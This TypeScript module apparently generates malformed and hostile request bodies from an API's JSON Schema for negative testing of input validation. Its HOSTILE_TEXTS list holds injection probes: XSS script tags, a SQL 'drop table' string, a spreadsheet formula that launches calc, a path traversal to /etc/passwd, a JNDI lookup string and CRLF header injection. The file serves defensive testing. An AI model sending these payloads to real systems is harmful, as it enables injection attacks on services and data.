import { Ajv, type ValidateFunction } from 'ajv';

// Bodies that are wrong in one place, made from a body that is good and the schema that the API's
// own description gives for it.

/** As much of JSON Schema as the description uses. */
export interface Schema {
  readonly type?: string;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
}

export interface BadBody {
  /** What is wrong with it. */
  readonly what: string;
  /** What a refusal must name: products[0].skuId */
  readonly field: string;
  readonly body: unknown;
}

type Step = string | number;
/** A place in a body, and the schema of what stands there. */
export interface Place {
  readonly path: readonly Step[];
  readonly schema: Schema;
}

const WRONG_TYPES: Readonly<Record<string, unknown>> = {
  'a number': 12_345,
  'a decimal number': 1.5,
  'a boolean': true,
  'a text': 'text',
  'an object': { a: 1 },
  'an array': ['a'],
  'an array of arrays': [[[]]],
  'an array of nulls': [null],
  null: null,
};
/** Refused wherever they stand: the API has no text as long, and the database can't keep the others. */
const WRONG_TEXTS: Readonly<Record<string, string>> = {
  '100,000 characters': 'a'.repeat(100_000),
  NUL: 'a\0b',
  'half of a surrogate pair': 'a\ud800b',
  'the other half of a surrogate pair': '\udc00',
};
/** Texts that are good in a name and nowhere else. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  nothing: '',
  'a space': ' ',
  'white space': '\t\n\r\v\u00a0\u2028\ufeff',
  script: '<script>alert(1)</script>',
  'an attribute': '" onmouseover="alert(1)',
  SQL: "'; drop table users; --",
  'right to left marks': '\u202e\u2066gpj.exe\u2069',
  'a formula': "=cmd|' /C calc'!A0",
  'a path': '../../../../etc/passwd',
  'a template': '${jndi:ldap://a.example/x}{{7*7}}%s%n',
  'pictures and accents': '👩‍👩‍👧‍👦 Z͑͐a̴l̶g̷o̸ İıſ',
  'a percent encoded NUL': '%00%0d%0aSet-Cookie:a=b',
  'a line break': 'a\r\nX-Injected: 1',
};

/** Every place in a good body at which its schema says what may stand there. */
export function placesOf(schema: Schema, good: unknown, path: readonly Step[] = []): Place[] {
  const here = { path, schema };
  const { properties, items } = notNull(schema);
  if (properties) {
    const inside = Object.entries(properties).flatMap(([name, property]) => {
      const value = (good as Record<string, unknown> | undefined)?.[name];
      return placesOf(property, value, [...path, name]);
    });
    return [here, ...(good === undefined ? [] : inside)];
  }
  if (items && Array.isArray(good) && good.length > 0) return [here, ...placesOf(items, good[0], [...path, 0])];
  return [here];
}

/** Bodies that must be refused. */
export function badBodies(schema: Schema, good: object): BadBody[] {
  const isAllowed = allowedBy(schema);
  return placesOf(schema, good).flatMap((place) => {
    const { path } = place;
    const { properties, required = [], type } = notNull(place.schema);
    const isThere = path.length === 0 || valueAt(good, path) !== undefined;
    const bad = (what: string, field: readonly Step[], body: unknown) => ({ what, field: nameOf(field), body });
    const put = (what: string, value: unknown) => bad(what, path, withValue(good, path, value));
    const ofObject =
      properties && isThere
        ? [
            ...required.map((name) => bad('missing', [...path, name], withValue(good, [...path, name], undefined))),
            bad('an unknown property', [...path, 'surprise'], withValue(good, [...path, 'surprise'], 1)),
            bad('a property by a name of old', [...path, 'toString'], withValue(good, [...path, 'toString'], 1)),
          ]
        : [];
    if (path.length === 0) return ofObject;
    const wrongTypes = Object.entries(WRONG_TYPES)
      .map(([what, value]) => put(what, value))
      .filter(({ body }) => !isAllowed(body));
    const texts = type === 'string' ? Object.entries(WRONG_TEXTS) : [];
    const hostile = type === 'string' ? Object.entries(HOSTILE_TEXTS) : [];
    return [
      ...ofObject,
      ...wrongTypes,
      ...texts.map(([what, value]) => put(what, value)),
      ...hostile.map(([what, value]) => put(what, value)).filter(({ body }) => !isAllowed(body)),
      ...(type === 'array' ? [put('too many', tooMany(valueAt(good, path)))] : []),
      ...(type === 'integer'
        ? [-1, 1e300, 2 ** 53].map((number) => put(String(number), number)).filter(({ body }) => !isAllowed(body))
        : []),
    ];
  });
}

/** Bodies with hostile text that the schema has nothing against, and where it stands. */
export function hostileBodies(schema: Schema, good: object): (BadBody & { path: readonly Step[]; text: string })[] {
  const isAllowed = allowedBy(schema);
  return placesOf(schema, good)
    .filter((place) => notNull(place.schema).type === 'string')
    .flatMap(({ path }) =>
      Object.entries(HOSTILE_TEXTS).map(([what, text]) => ({
        what,
        field: nameOf(path),
        path,
        text,
        body: withValue(good, path, text),
      })),
    )
    .filter(({ body }) => isAllowed(body));
}

/** products[0].skuId */
export function nameOf(path: readonly Step[]): string {
  return path.reduce<string>((name, step) => {
    if (typeof step === 'number') return `${name}[${step}]`;
    return name ? `${name}.${step}` : step;
  }, '');
}

export function valueAt(body: unknown, path: readonly Step[]): unknown {
  return path.reduce<unknown>((value, step) => (value as Record<Step, unknown> | undefined)?.[step], body);
}

/** A copy of a body with another value somewhere; undefined removes it. */
export function withValue(body: object, path: readonly Step[], value: unknown): object {
  const copy = structuredClone(body) as Record<Step, unknown>;
  const holder = path.slice(0, -1).reduce<Record<Step, unknown>>((inside, step) => inside[step] as typeof inside, copy);
  holder[path.at(-1)!] = value;
  return copy;
}

/** A nullable schema without its null. */
export function notNull(schema: Schema): Schema {
  return schema.anyOf?.find(({ type }) => type !== 'null') ?? schema;
}

/** As many of an array's own members as a body holds. */
function tooMany(array: unknown): unknown[] {
  const member = (array as unknown[] | undefined)?.[0] ?? 'text';
  const count = Math.floor(900_000 / (JSON.stringify(member).length + 1));
  return Array.from({ length: Math.min(count, 20_000) }, () => member);
}

const validators = new WeakMap<Schema, ValidateFunction>();

function allowedBy(schema: Schema): (body: unknown) => boolean {
  let validate = validators.get(schema);
  if (!validate) {
    validate = new Ajv({ strict: false, formats: { 'date-time': DATE_TIME } }).compile(schema);
    validators.set(schema, validate);
  }
  return (body) => validate(body);
}

const DATE_TIME = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)$/;
